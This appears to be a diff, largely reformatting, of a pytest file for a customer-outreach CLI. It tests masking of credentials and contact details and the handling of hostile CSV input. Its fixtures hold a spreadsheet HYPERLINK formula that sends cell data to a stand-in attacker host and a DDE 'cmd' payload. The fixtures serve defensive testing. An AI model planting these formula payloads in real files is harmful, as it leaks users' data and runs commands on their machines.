@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 from jinja2 import TemplateNotFound
+
 from tests.inprocess import huitou
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'
@@ -37,7 +38,7 @@ rules:
 TEMPLATES = {
     "phone/call.j2": "客户：{{ customer.name }}\n话术：问候。",
     "email/hi.j2": "{% block subject %}您好{% endblock %}{% block text %}{{ customer.name }}，您好。{% endblock %}"
-                   "{% block html %}<p>{{ customer.name }}，您好。<a href=\"{{ unsubscribe_url }}\">退订</a></p>{% endblock %}",
+    '{% block html %}<p>{{ customer.name }}，您好。<a href="{{ unsubscribe_url }}">退订</a></p>{% endblock %}',
 }
 CONFIG = """version: 1
 name: t
@@ -64,8 +65,11 @@ def shop(root: Path) -> Path:
         writer.writerow(["b", SCRIPT, "+86 138-0000-0002", "b@mail.example.cn", "true"])
         writer.writerow(["c", "王\x00芳", "=cmd|' /C calc'!A0", "c@mail.example.cn", "true"])
         writer.writerow(["=1+2", "x", "13800000004", "", "false"])
-    (root / "orders.csv").write_text("order_id,customer_id,ordered_at,amount\no1,a,2026-11-01 10:00:00,10\no2,b,2026-11-01 10:00:00,10\n"
-                                     "o3,c,2026-11-01 10:00:00,10\no4,=1+2,2026-11-01 10:00:00,-5\n", encoding="utf-8")
+    (root / "orders.csv").write_text(
+        "order_id,customer_id,ordered_at,amount\no1,a,2026-11-01 10:00:00,10\no2,b,2026-11-01 10:00:00,10\n"
+        "o3,c,2026-11-01 10:00:00,10\no4,=1+2,2026-11-01 10:00:00,-5\n",
+        encoding="utf-8",
+    )
     return root
 
 
@@ -142,13 +146,17 @@ def test_credentials_in_a_gateway_url_are_refused_and_never_shown(tmp_path: Path
         done = huitou("validate", "huitou.yaml", "--format", "json", cwd=root)
         assert done.returncode == 1 and [d["code"] for d in json.loads(done.stdout)] == ["HT504"], (param, done.stdout)
         assert "s3cr3t" not in done.stdout
-    error = DeliveryError("no answer from https://gw.example/send?appkey=s3cr3t&sign=ab within 5s; body: see https://u:pw@gw.example/x?t=1", transient=True)
+    error = DeliveryError(
+        "no answer from https://gw.example/send?appkey=s3cr3t&sign=ab within 5s; body: see https://u:pw@gw.example/x?t=1", transient=True
+    )
     assert "s3cr3t" not in str(error) and "pw@" not in str(error) and "appkey=***" in str(error)
 
 
 def test_dry_runs_mask_every_contact_a_template_prints(tmp_path: Path) -> None:
     root = shop(tmp_path / "shop")
-    (root / "templates" / "zh-CN" / "phone" / "call.j2").write_text("客户：{{ customer.phone }}，邮箱 {{ customer.email }}，订单日 2026-11-01", encoding="utf-8")
+    (root / "templates" / "zh-CN" / "phone" / "call.j2").write_text(
+        "客户：{{ customer.phone }}，邮箱 {{ customer.email }}，订单日 2026-11-01", encoding="utf-8"
+    )
     masked = run(root, "plan", "--as-of", "2026-11-02", "--horizon", "1d", "--format", "json", "--samples", "10")
     text = json.dumps(json.loads(masked.stdout)["samples"], ensure_ascii=False)
     assert "13800000001" not in text and "a@mail.example.cn" not in text and "138****0001" in text and "a***@mail.example.cn" in text
